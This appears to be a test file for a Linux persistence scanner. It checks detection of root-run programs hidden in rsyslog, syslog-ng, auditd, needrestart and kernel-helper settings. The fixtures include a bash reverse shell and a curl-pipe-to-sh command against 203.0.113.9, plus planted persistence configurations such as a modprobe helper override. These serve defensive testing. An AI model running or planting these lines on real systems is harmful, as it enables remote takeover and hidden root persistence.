/**
 * Ways to hide a program a daemon runs as root that a first reading of their configuration missed: rsyslog's
 * legacy `^program` action after a property filter or `if … then`, mmexternal, modules loaded by path or planted
 * in its module directory, configuration included as text or through a backtick `cat`; syslog-ng's unquoted
 * program(), hook-commands and confgen; auditd.conf's `exec` actions and `plugin_dir`; the commands needrestart's
 * Perl configuration runs; a kernel usermode helper a boot script installs (`echo /x > /proc/sys/kernel/modprobe`),
 * which on an offline image is all there is to see. Each fires where planted, and the same files as shipped stay
 * quiet.
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import {
  parseAuditdConf,
  parseRsyslogConf,
  parseSyslogNgConf,
  perlCommands,
} from "../../src/scanners/persistence/sources/daemon_hooks_parse.ts";
import { executedPaths, kernelHelperWrites } from "../../src/scanners/persistence/shell_words.ts";
import { makeTree, runOne } from "../helpers.ts";
import { dpkgOwns, exe, fired, withAccounts } from "./persistence_fixtures.ts";

const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1";
const FETCH = "curl -fsSL http://203.0.113.9/x | sh";

/** Debian 12's /etc/audit/auditd.conf (auditd 1:3.0.9-1), its comment header left out. */
const DEBIAN_AUDITD_CONF = [
  "local_events = yes",
  "write_logs = yes",
  "log_file = /var/log/audit/audit.log",
  "log_group = adm",
  "log_format = ENRICHED",
  "flush = INCREMENTAL_ASYNC",
  "freq = 50",
  "max_log_file = 8",
  "num_logs = 5",
  "priority_boost = 4",
  "name_format = NONE",
  "##name = mydomain",
  "max_log_file_action = ROTATE",
  "space_left = 75",
  "space_left_action = SYSLOG",
  "verify_email = yes",
  "action_mail_acct = root",
  "admin_space_left = 50",
  "admin_space_left_action = SUSPEND",
  "disk_full_action = SUSPEND",
  "disk_error_action = SUSPEND",
  "use_libwrap = yes",
  "##tcp_listen_port = 60",
  "tcp_listen_queue = 5",
  "tcp_max_per_addr = 1",
  "##tcp_client_ports = 1024-65535",
  "tcp_client_max_idle = 0",
  "transport = TCP",
  "krb5_principal = auditd",
  "##krb5_key_file = /etc/audit/audit.key",
  "distribute_network = no",
  "q_depth = 2000",
  "overflow_action = SYSLOG",
  "max_restarts = 10",
  "plugin_dir = /etc/audit/plugins.d",
  "end_of_event_timeout = 2",
].join("\n") + "\n";

Deno.test("rsyslog: the program action wherever an action stands, mmexternal, modules by path, included text", () => {
  const r = parseRsyslogConf([
    ':msg, contains, "session opened" ^/var/tmp/.a;RSYSLOG_FileFormat',
    'if $programname == "sshd" then ^/var/tmp/.b',
    "& ^/var/tmp/.c",
    'if $msg contains "x" then { ^/var/tmp/.d }',
    'action(type="mmexternal" binary="/dev/shm/.m" interface.input="msg")',
    'module(load="/dev/shm/.so")',
    "$ModLoad /var/tmp/legacy.so",
    'include(text="action(type=\\"omprog\\" binary=\\"/dev/shm/.t\\")")',
    "include(text=`cat /var/tmp/more.conf`)",
    'action(type="omprog" binary=`echo /dev/shm/.e`)',
    // Quiet: a caret inside a filter's quoted value, a module by name, a file action.
    ':msg, regex, "^Accepted" /var/log/accepted.log',
    'module(load="imuxsock")',
    "$ModLoad imklog",
    "$ControlCharacterEscapePrefix ^",
  ].join("\n"));
  assert.deepEqual(r.programs, [
    { line: 1, command: "/var/tmp/.a" },
    { line: 2, command: "/var/tmp/.b" },
    { line: 3, command: "/var/tmp/.c" },
    { line: 4, command: "/var/tmp/.d" },
    { line: 5, command: "/dev/shm/.m" },
    { line: 6, command: "/dev/shm/.so" },
    { line: 7, command: "/var/tmp/legacy.so" },
    { line: 8, command: "/dev/shm/.t" },
    { line: 10, command: "/dev/shm/.e" },
  ]);
  assert.deepEqual(r.includes, ["/var/tmp/more.conf"]);
});

Deno.test("syslog-ng: unquoted program(), hook-commands and confgen's exec", () => {
  const r = parseSyslogNgConf([
    "destination d_x { program(/var/tmp/.p template(t_x)); };",
    "source s_net { network(",
    `  hook-commands(startup("${FETCH}") shutdown('/bin/true'))`,
    "); };",
    '@module confgen context(source) name(gen) exec("/dev/shm/.g")',
    '# hook-commands(startup("/commented"))',
  ].join("\n"));
  assert.deepEqual(r.programs, [
    { line: 1, command: "/var/tmp/.p" },
    { line: 3, command: FETCH },
    { line: 3, command: "/bin/true" },
    { line: 5, command: "/dev/shm/.g" },
  ]);
});

Deno.test("auditd.conf: exec actions (the last value of a key counts) and plugin_dir", () => {
  assert.deepEqual(
    parseAuditdConf(
      "space_left_action = exec /var/tmp/.s arg\nDISK_FULL_ACTION=EXEC /x\ndisk_full_action = SUSPEND\n" +
        "plugin_dir = /var/lib/.p/\r\n",
    ),
    { pluginDir: "/var/lib/.p", actions: [{ line: 1, command: "/var/tmp/.s arg" }] },
  );
  assert.deepEqual(parseAuditdConf(DEBIAN_AUDITD_CONF), { pluginDir: "/etc/audit/plugins.d", actions: [] });
  assert.deepEqual(parseAuditdConf("exec\n=\n_action=exec\n"), { pluginDir: undefined, actions: [] });
});

Deno.test("needrestart's Perl: system, exec, backticks, qx and piped open name their commands", () => {
  assert.deepEqual(perlCommands('system("/usr/local/bin/x", "-a");'), ["/usr/local/bin/x"]);
  assert.deepEqual(perlCommands("system '/a b'; exec(\"/c\")"), ["/a b", "/c"]);
  assert.deepEqual(perlCommands("my $v = `/dev/shm/q --x`;"), ["/dev/shm/q --x"]);
  assert.deepEqual(perlCommands("qx{/a}; qx(/b); qx!/c!"), ["/a", "/b", "/c"]);
  assert.deepEqual(perlCommands('open(my $f, "| /p1"); open(F, "/p2 |"); open(my $g, "-|", "/p3")'), [
    "/p1",
    "/p2",
    "/p3",
  ]);
  assert.deepEqual(perlCommands("$nrconf{restart} = 'l'; open(my $f, '<', '/etc/x');"), []);
  assert.deepEqual(perlCommands('system("'), []);
});

Deno.test("daemon hook evasion parsers: malformed and hostile input never throws and takes linear time", () => {
  const inputs = [
    "include(text=`cat",
    'include(text="' + 'include(text=\\"'.repeat(20_000),
    "hook-commands(" + "startup(".repeat(50_000),
    "@module confgen " + "exec ".repeat(100_000),
    ':msg, x, "y" ' + "^".repeat(200_000),
    "system" + " ".repeat(200_000) + "x",
    "open" + " open".repeat(100_000),
    "qx(".repeat(100_000),
    "`".repeat(100_001),
    "x_action = exec " + " ".repeat(200_000),
  ];
  const started = performance.now();
  for (const text of inputs) {
    assert.ok(Array.isArray(parseRsyslogConf(text).programs));
    assert.ok(Array.isArray(parseSyslogNgConf(text).programs));
    assert.ok(Array.isArray(parseAuditdConf(text).actions));
    assert.ok(Array.isArray(perlCommands(text)));
  }
  const ms = performance.now() - started;
  assert.ok(ms < 8000, `${ms.toFixed(0)} ms (quadratic would be minutes)`);
});

const MODULE_DIR = "/usr/lib/x86_64-linux-gnu/rsyslog";

Deno.test("persistence: programs hidden from a first reading of the daemons' configuration fire", async () => {
  using root = makeTree(withAccounts({
    "etc/rsyslog.conf": [
      'module(load="imuxsock")',
      ':msg, contains, "Accepted" ^/var/tmp/.r1;RSYSLOG_FileFormat',
      "include(text=`cat /var/lib/.rs/extra.conf`)",
    ].join("\n") + "\n",
    "var/lib/.rs/extra.conf": `action(type="mmexternal" binary="${REVERSE}")\n`,
    "etc/syslog-ng/syslog-ng.conf": `source s { system(hook-commands(startup("${FETCH}"))); };\n` +
      "destination d { program(/dev/shm/.ng); };\n",
    "etc/audit/auditd.conf": DEBIAN_AUDITD_CONF.replace("SUSPEND", "exec /var/tmp/.full") +
      "plugin_dir = /var/lib/.ap\n",
    "var/lib/.ap/health.conf": "active = yes\npath = /usr/local/sbin/healthd\n",
    "usr/local/sbin/healthd": exe(`#!/bin/sh\n${REVERSE}\n`),
    "etc/needrestart/needrestart.conf": "$nrconf{restart} = 'a';\nsystem('/var/tmp/.nr');\n",
    [`${MODULE_DIR.slice(1)}/imuxsock.so`]: "\x7fELF",
    [`${MODULE_DIR.slice(1)}/omhealth.so`]: "\x7fELF",
    ...dpkgOwns("rsyslog", [`${MODULE_DIR}/imuxsock.so`]),
    "var/tmp/.r1": exe("#!/bin/sh\n"),
    "dev/shm/.ng": exe("#!/bin/sh\n"),
    "var/tmp/.full": exe("#!/bin/sh\n"),
    "var/tmp/.nr": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /var/lib/.ap/health.conf:2",
    "critical persistence.command.reverse_shell /var/lib/.rs/extra.conf:1",
    "high persistence.command.download_exec /etc/syslog-ng/syslog-ng.conf:1",
    "high persistence.command.untrusted_path /etc/audit/auditd.conf:19",
    "high persistence.command.untrusted_path /etc/needrestart/needrestart.conf:2",
    "high persistence.command.untrusted_path /etc/rsyslog.conf:2",
    "high persistence.command.untrusted_path /etc/syslog-ng/syslog-ng.conf:2",
    `medium persistence.hook.unpackaged ${MODULE_DIR}/omhealth.so`,
  ]);
});

Deno.test("persistence: the same files as shipped, owned modules and Perl settings stay quiet", async () => {
  const modules = ["imuxsock.so", "imklog.so", "omprog.so", "mmexternal.so"].map((n) => `${MODULE_DIR}/${n}`);
  using root = makeTree(withAccounts({
    "etc/rsyslog.conf":
      'module(load="imuxsock")\nmodule(load="omprog")\n:msg, regex, "^Accepted" /var/log/a.log\n',
    "etc/syslog-ng/syslog-ng.conf":
      'filter f_ssh { program("sshd"); };\ndestination d { file("/var/log/x"); };\n',
    "etc/audit/auditd.conf": DEBIAN_AUDITD_CONF,
    "etc/audit/plugins.d/af_unix.conf": "active = no\npath = builtin_af_unix\n",
    "etc/needrestart/needrestart.conf": "$nrconf{restart} = 'l';\n#system('/tmp/x');\n",
    ...Object.fromEntries(modules.map((m) => [m.slice(1), "\x7fELF"])),
    ...dpkgOwns("rsyslog", modules),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
});

Deno.test("kernelHelperWrites: the program a line installs as a kernel usermode helper", () => {
  const cases: [string, string[]][] = [
    ["sysctl -w kernel.modprobe=/var/tmp/m", ["/var/tmp/m"]],
    ["sysctl kernel/poweroff_cmd='/dev/shm/p -f'", ["/dev/shm/p"]],
    ["sysctl -w kernel.core_pattern=' | /tmp/c %p'", ["/tmp/c"]],
    ["echo /var/tmp/m > /proc/sys/kernel/modprobe", ["/var/tmp/m"]],
    ["printf %s /tmp/u | tee /sys/kernel/uevent_helper >/dev/null", ["/tmp/u", "/dev/null"]],
    ['echo "|$PREFIX/share/apport/apport -p%p" > /proc/sys/kernel/core_pattern', []],
    ["echo core > /proc/sys/kernel/core_pattern; /usr/bin/x", []],
    ["cat /proc/sys/kernel/modprobe_other /tmp/z", []],
    ["sysctl -w kernel.core_pattern=core", []],
    ["sysctl -w kernel.core_pattern=/var/crash/core.%e", []],
    ["echo /var/crash/core.%e.%p > /proc/sys/kernel/core_pattern", []],
    ["echo '|/tmp/c %p' > /proc/sys/kernel/core_pattern", ["/tmp/c"]],
  ];
  for (const [line, expected] of cases) assert.deepEqual(kernelHelperWrites(line), expected, line);
  // executedPaths judges them with the line's commands.
  assert.deepEqual(executedPaths("/sbin/sysctl -w kernel.modprobe=/var/tmp/m"), [
    "/sbin/sysctl",
    "/var/tmp/m",
  ]);
  const started = performance.now();
  kernelHelperWrites(`sysctl kernel.modprobe=${" ".repeat(300_000)}`);
  kernelHelperWrites(`kernel.modprobe=`.repeat(50_000));
  kernelHelperWrites(`${"/proc/sys/kernel/modprobe ".repeat(40_000)};`.repeat(2));
  const ms = performance.now() - started;
  assert.ok(ms < 8000, `${ms.toFixed(0)} ms (quadratic would be minutes)`);
});

Deno.test("persistence: a boot script that installs a kernel helper in an untrusted place fires; a core file name stays quiet", async () => {
  using root = makeTree(withAccounts({
    "etc/rc.local": exe("#!/bin/sh -e\necho /var/tmp/.m > /proc/sys/kernel/modprobe\nexit 0\n"),
    "etc/cron.d/health": "@reboot root sysctl -w kernel.core_pattern='|/dev/shm/.c %p'\n",
    "var/tmp/.m": exe("#!/bin/sh\n"),
    "dev/shm/.c": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.untrusted_path /etc/cron.d/health:1",
    "high persistence.command.untrusted_path /etc/rc.local:2",
    "low persistence.rc_local.active /etc/rc.local",
  ]);
  using quiet = makeTree(withAccounts({
    "etc/cron.d/core": "@reboot root sysctl -w kernel.core_pattern=/var/crash/core.%e.%p\n",
  }));
  const q = await runOne(persistence, quiet.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(q.findings), []);
});

Deno.test("persistence: a syslog-ng include-path file planted where scl.conf's glob reaches fires and is unpackaged", async () => {
  const SCL = "usr/share/syslog-ng/include/scl";
  using root = makeTree(withAccounts({
    "etc/syslog-ng/syslog-ng.conf": '@version: 3.38\n@include "scl.conf"\n',
    "etc/syslog-ng/scl.conf": "@module appmodel\n@include 'scl/*/*.conf'\n",
    [`${SCL}/system/plugin.conf`]: "block source system() { internal(); };\n",
    [`${SCL}/health/plugin.conf`]: '@module confgen context(source) name(health) exec("/dev/shm/.g")\n',
    ...dpkgOwns("syslog-ng-scl", [`/${SCL}/system/plugin.conf`]),
    "dev/shm/.g": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    `high persistence.command.untrusted_path /${SCL}/health/plugin.conf:1`,
    `medium persistence.hook.unpackaged /${SCL}/health/plugin.conf`,
  ]);
});
